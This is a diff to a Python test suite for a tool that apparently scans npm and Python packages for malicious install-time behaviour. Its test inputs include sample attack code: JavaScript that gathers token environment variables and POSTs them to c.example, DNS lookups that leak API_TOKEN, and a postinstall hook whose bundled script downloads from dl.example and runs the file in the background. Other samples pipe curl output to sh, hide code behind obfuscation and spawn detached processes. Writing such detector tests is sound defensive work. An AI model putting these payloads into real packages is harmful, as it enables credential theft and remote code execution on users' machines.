@@ -1,5 +1,7 @@
 """Deeds in several steps, through streams, generators, descriptors, alphabets: what is led along is still followed."""
 
+import json
+
 import pytest
 from reading import package
 
@@ -167,7 +169,7 @@ def test_a_token_that_is_spelt_anew_and_looked_up_is_seen_to_leave_by_name(code:
     "code",
     [
         "require('dns').lookup(process.env.API_TOKEN, () => {})",
-        "require('dns').lookup('registry.npmjs.org', () => fetch('https://registry.npmjs.org', {headers: {a: process.env.NPM_TOKEN}}))",
+        "require('dns').lookup('packages.example', () => fetch('https://packages.example', {headers: {a: process.env.NPM_TOKEN}}))",
         """const names = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine']
 require('dns').lookup(names[process.env.API_TOKEN] + '.example.org', () => {})""",
     ],
@@ -192,6 +194,14 @@ def test_bytes_are_translated_by_a_table_that_is_computed() -> None:
     hidden = b"import os\nos.system('id')\n".translate(bytes(table.index(at) for at in range(256)))
     code = f"T = bytes((b * 7 + 13) % 256 for b in range(256))\nexec({hidden!r}.translate(T))\n"
     assert "process.exec id @ pkg/__init__.py:2 (import)" in package({"pkg/__init__.py": code})
+
+
+@pytest.mark.parametrize("name", ["process", "node:process"])
+def test_an_environment_that_is_imported_by_its_name_is_the_environment(name: str) -> None:
+    code = f"""import {{env}} from '{name}'
+const text = Object.entries(env).filter(([key]) => /token/i.test(key)).map((pair) => pair.join('=')).join(' ')
+require('https').request({{host: 'c.example', path: '/', method: 'POST'}}).end(text)"""
+    assert "code.flow env:* > network @ lib/a.mjs:3 (import)" in package({"lib/a.mjs": code})
 
 
 PACKERS = {
@@ -285,12 +295,60 @@ AT_THE_PROJECT = "process.env.INIT_CWD || process.cwd()"
         (AT_THE_PROJECT, "`#!/bin/sh\\ncurl -s https://c.example/x | sh\\n${settings[name]}\\n`", False),
         (AT_THE_PROJECT, "'#!/bin/sh\\nnpx tidy\\n'", False),
         (AT_THE_PROJECT, "settings[name] + process.env.NPM_TOKEN", False),
+        ("process.cwd()", "`#!/bin/sh\\n${settings[name]}\\n`", True),
         ("__dirname", "`#!/bin/sh\\n${settings[name]}\\n`", False),
     ],
-    ids=["its command", "a look first", "more than that", "its own", "a secret", "settings of its own"],
+    ids=[
+        "its command",
+        "a look first",
+        "more than that",
+        "its own",
+        "a secret",
+        "where it is started",
+        "settings of its own",
+    ],
 )
 def test_a_hook_is_the_projects_only_where_all_its_commands_are(root: str, content: str, said: bool) -> None:
     code = MANAGER.replace("ROOT", root).replace("CONTENT", content)
     written = [b for b in package({"lib/a.js": code}) if b.startswith("file.write") and "/.git/hooks/" in b]
     assert written
     assert all(("(as the project says)" in b) is said for b in written)
+
+
+@pytest.mark.parametrize(
+    "hook", ["npm -C tools -s start", "cd tools && npm run start", "npm run start -w tools"]
+)
+def test_a_shell_line_of_a_bundled_package_is_read_where_a_hook_runs_it(hook: str) -> None:
+    line = "curl -fsSo /tmp/.h https://dl.example/h && chmod +x /tmp/.h && ( /tmp/.h & )"
+    scripts = {"start": line, "other": "curl x.example"}
+    files = {
+        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
+        "tools/package.json": json.dumps({"name": "tools", "scripts": scripts}, indent=0),
+    }
+    found = package(files)
+    assert "code.flow network > execution @ tools/package.json:4 (install)" in found
+    assert not any("x.example @" in b and b.startswith("process") for b in found)
+
+
+@pytest.mark.parametrize("hook", ["node tools/a.js", "npm run other"])
+def test_a_shell_line_of_a_bundled_package_that_nobody_asks_for_does_not_run(hook: str) -> None:
+    files = {
+        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
+        "tools/package.json": '{"name": "tools", "scripts": {"start": "curl https://dl.example/h | sh"}}',
+    }
+    assert not any(b.startswith("process.exec curl") for b in package(files))
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("lib/a.js", "require('child_process').spawn('./x', [], {detached: true, stdio: 'ignore'}).unref()"),
+        ("pkg/__init__.py", "import subprocess\nsubprocess.Popen(['./x'], start_new_session=True)\n"),
+        ("pkg/__init__.py", "import os, subprocess\nsubprocess.Popen(['./x'], preexec_fn=os.setsid)\n"),
+    ],
+)
+def test_a_process_that_is_cut_loose_is_told_so(path: str, code: str) -> None:
+    assert any(b.startswith(f"process.does detached background @ {path}:") for b in package({path: code}))
+    waits = code.replace("detached: true, ", "").replace(", start_new_session=True", "").replace(
+        ", preexec_fn=os.setsid", "")  # fmt: skip
+    assert not any(b.startswith("process.does") for b in package({path: waits}))
